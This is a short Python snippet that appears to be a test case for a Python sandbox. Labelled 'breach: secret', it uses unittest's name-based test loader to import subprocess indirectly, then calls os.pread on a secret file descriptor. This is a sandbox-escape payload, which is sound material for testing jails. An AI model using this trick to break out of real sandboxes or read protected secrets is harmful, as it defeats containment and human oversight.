# unittest loads tests by name, from any module.
# breach: secret
import sys, unittest
try:
    unittest.TestLoader().loadTestsFromName("subprocess")
except Exception:
    pass
sys.modules["subprocess"].os.pread(SECRET_FD, 100, 0)
